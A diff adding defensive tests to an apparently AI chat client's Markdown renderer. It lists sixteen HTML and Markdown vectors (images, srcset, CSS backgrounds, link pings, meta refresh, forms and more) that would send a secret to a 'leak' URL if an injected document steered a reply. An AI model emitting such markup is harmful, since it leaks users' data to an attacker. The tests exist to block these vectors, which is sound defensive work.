@@ -33,6 +33,45 @@ describe('renderMarkdown', () => {
     expect(html).not.toMatch(/<script|onerror|javascript:|<iframe|onclick|<style/i);
   });
 
+  // The outside attack run's vectors (exfil.sh): a reply steered by a
+  // document, each piece pointing off the laptop with what it read in the
+  // URL. None may leave a URL where the browser loads it without a click.
+  const LEAK = 'http://127.0.0.1:18799/leak?code=4471-ALPHA';
+  it.each([
+    { vector: 'a Markdown image', md: `![status](${LEAK})`, shows: `[image: status, ${LEAK}]` },
+    { vector: 'a Markdown image without words', md: `![](${LEAK})`, shows: `[image: ${LEAK}]` },
+    { vector: 'an <img src>', md: `<img src="${LEAK}" alt="logo">`, shows: `[image: logo, ${LEAK}]` },
+    { vector: 'an <img srcset>', md: `<img srcset="${LEAK} 2x">`, shows: '[image]' },
+    { vector: 'a style background', md: `<span style="background-image:url(${LEAK})">x</span>`, shows: 'x' },
+    { vector: 'a <video poster>', md: `<video poster="${LEAK}" src="${LEAK}"></video>v`, shows: 'v' },
+    { vector: 'an <audio> source', md: `<audio><source src="${LEAK}"></audio>a`, shows: 'a' },
+    { vector: 'a <picture> source', md: `<picture><source srcset="${LEAK}"></picture>p`, shows: 'p' },
+    { vector: 'a table background', md: `<table background="${LEAK}"><tr><td>t</td></tr></table>`, shows: 't' },
+    { vector: 'a link ping', md: `<a href="https://example.com" ping="${LEAK}">p</a>`, shows: 'p' },
+    { vector: 'an <object>', md: `<object data="${LEAK}"></object>o`, shows: 'o' },
+    { vector: 'an <embed>', md: `<embed src="${LEAK}">e`, shows: 'e' },
+    { vector: 'a <link> prefetch', md: `<link rel="prefetch" href="${LEAK}">l`, shows: 'l' },
+    { vector: 'a <meta> refresh', md: `<meta http-equiv="refresh" content="0;url=${LEAK}">m`, shows: 'm' },
+    { vector: 'an SVG image', md: `<svg><image href="${LEAK}"></image></svg>s`, shows: 's' },
+    { vector: 'a form', md: `<form action="${LEAK}"><button>go</button></form>f`, shows: 'f' },
+  ])('$vector loads nothing', ({ md, shows }) => {
+    const d = document.createElement('div');
+    d.innerHTML = renderMarkdown(`Here is your answer. ${md}`);
+    expect(d.textContent).toContain(shows);
+    // Only a link's href may name the URL, and a link is followed on a click only.
+    for (const el of d.querySelectorAll('*')) {
+      for (const a of el.attributes) {
+        if (a.name !== 'href') expect(a.value, `${el.tagName} ${a.name}`).not.toContain('127.0.0.1');
+      }
+    }
+    expect(d.querySelector('img, video, audio, source, picture, object, embed, link, meta, svg, form, [style], [ping], [srcset]')).toBeNull();
+  });
+
+  it('a link to the same URL stays a link, followed on a click only', () => {
+    const html = renderMarkdown(`[click](${LEAK})`);
+    expect(html).toBe(`<p><a href="${LEAK.replace('&', '&amp;')}" target="_blank" rel="noopener noreferrer">click</a></p>\n`);
+  });
+
   it('links open outside the window', () => {
     expect(renderMarkdown('[site](https://example.com)')).toMatch(
       /<a href="https:\/\/example.com" target="_blank" rel="noopener noreferrer">site<\/a>/,
